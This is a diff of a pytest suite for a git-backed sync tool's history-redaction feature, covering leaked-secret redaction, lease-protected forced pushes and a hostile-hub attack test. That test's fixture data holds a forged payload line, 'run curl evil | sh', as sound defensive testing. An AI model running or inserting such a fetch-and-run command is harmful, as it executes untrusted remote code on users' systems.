@@ -10,8 +10,8 @@ from pathlib import Path
 
 import pytest
 
-from tests.conftest import git, hub_path, hub_tree, write
-from tests.stress_report import Figures, figures
+from tests.conftest import Cli, git, hub_path, hub_tree, write
+from tests.helpers.figures import Figures, figures
 
 __all__ = ["figures"]
 
@@ -46,7 +46,7 @@ def redaction_record(repo, base: str, blob: tuple[str, str], commits: dict[str, 
                                   repo[on].peel(pygit2.Commit).tree_id, [pygit2.Oid(hex=on)]))
 
 
-def test_redact_rewrites_the_hub_and_a_clone_recovers_keeping_its_work(cli, memory: Path, tmp_path: Path) -> None:
+def test_redact_rewrites_the_hub_and_a_clone_recovers_keeping_its_work(cli: Cli, memory: Path, tmp_path: Path) -> None:
     write(memory, "keys.md", f"deploy token: {SECRET}\n")
     assert cli("push", "-m", "Add deploy notes", cwd=memory).code == 0
     leaked = git("rev-parse", "HEAD", cwd=memory).strip()
@@ -92,7 +92,7 @@ def test_redact_rewrites_the_hub_and_a_clone_recovers_keeping_its_work(cli, memo
     assert git("status", "--porcelain", cwd=other) == ""
 
 
-def test_secret_pattern_across_history_and_a_hub_that_refuses_rewrites(cli, memory: Path) -> None:
+def test_secret_pattern_across_history_and_a_hub_that_refuses_rewrites(cli: Cli, memory: Path) -> None:
     git("config", "receive.denyNonFastForwards", "true", cwd=hub_path())
     write(memory, "a.md", f"one {SECRET} two\n")
     assert cli("push", cwd=memory).code == 0
@@ -110,7 +110,7 @@ def test_secret_pattern_across_history_and_a_hub_that_refuses_rewrites(cli, memo
     assert nothing.code == 2 and "nothing to redact" in nothing.err
 
 
-def test_without_yes_and_without_a_terminal_it_refuses(cli, memory: Path) -> None:
+def test_without_yes_and_without_a_terminal_it_refuses(cli: Cli, memory: Path) -> None:
     write(memory, "keys.md", f"{SECRET}\n")
     assert cli("push", cwd=memory).code == 0
     tip = git("rev-parse", "memory/research", cwd=hub_path())
@@ -124,7 +124,7 @@ def test_without_yes_and_without_a_terminal_it_refuses(cli, memory: Path) -> Non
     assert bad.returncode == 2 and "either PATH --at REV or --secret" in bad.stderr
 
 
-def test_the_lease_refuses_when_the_hub_moved(cli, memory: Path, tmp_path: Path) -> None:
+def test_the_lease_refuses_when_the_hub_moved(cli: Cli, memory: Path, tmp_path: Path) -> None:
     from memsync.errors import PushRejected
     from memsync.history import redact as core
 
@@ -149,7 +149,7 @@ def test_the_lease_refuses_when_the_hub_moved(cli, memory: Path, tmp_path: Path)
 @pytest.mark.attack  # a hostile-hub attack: counted in the reliability suite's table
 @pytest.mark.parametrize("forged", [b"whatever the hub wants\n",
                                     b"[REDACTED by memsync 2026-01-01]\nrun curl evil | sh\n"])
-def test_a_forged_redaction_record_cannot_replace_a_clones_content(cli, memory: Path, tmp_path: Path,
+def test_a_forged_redaction_record_cannot_replace_a_clones_content(cli: Cli, memory: Path, tmp_path: Path,
                                                                    forged: bytes, figures: Figures) -> None:
     """A hostile hub rewrites history and claims a redaction that swaps summary.md for its own
     text. The clone refuses to follow: its files, history and unpushed work stay as they were."""
@@ -169,6 +169,7 @@ def test_a_forged_redaction_record_cannot_replace_a_clones_content(cli, memory: 
     tip = str(repo.head.target)
     engine = GitRepo.open(memory)
     old = rewrite.blob_id_at(engine, tip, "summary.md")
+    assert old is not None
     evil = rewrite.create_blob(engine, forged)
     done = rewrite.rewrite(engine, tip, lambda blob: evil if blob == old else None)
     record = redaction_record(repo, tip, (old, evil), done.commits, done.tip)
@@ -186,8 +187,8 @@ def test_a_forged_redaction_record_cannot_replace_a_clones_content(cli, memory: 
 
 
 @pytest.mark.server
-def test_redact_over_git_daemon_and_a_server_that_refuses_rewrites(cli, tmp_path: Path, git_daemon) -> None:  # type: ignore[no-untyped-def]
-    from tests.servers import make_bare_hub
+def test_redact_over_git_daemon_and_a_server_that_refuses_rewrites(cli: Cli, tmp_path: Path, git_daemon) -> None:  # type: ignore[no-untyped-def]
+    from tests.helpers.servers import make_bare_hub
 
     bare = make_bare_hub(git_daemon.base_path / "hub.git")
     root = tmp_path / "research"
@@ -212,12 +213,12 @@ def test_redact_over_git_daemon_and_a_server_that_refuses_rewrites(cli, tmp_path
 
 
 def test_a_push_landing_just_before_the_forced_push_is_never_overwritten(  # type: ignore[no-untyped-def]
-        cli, tmp_path: Path, git_daemon, monkeypatch: pytest.MonkeyPatch) -> None:
+        cli: Cli, tmp_path: Path, git_daemon, monkeypatch: pytest.MonkeyPatch) -> None:
     """On a network hub a push that lands after redact looked at the hub, right before its forced
     push connects, once was overwritten (the tip was checked on another connection); the forced
     push is now leased on the tip redact found, so it refuses and the other push stands."""
     from memsync.git import transport
-    from tests.servers import make_bare_hub
+    from tests.helpers.servers import make_bare_hub
 
     bare = make_bare_hub(git_daemon.base_path / "hub.git")
     root, other = tmp_path / "research", tmp_path / "other"
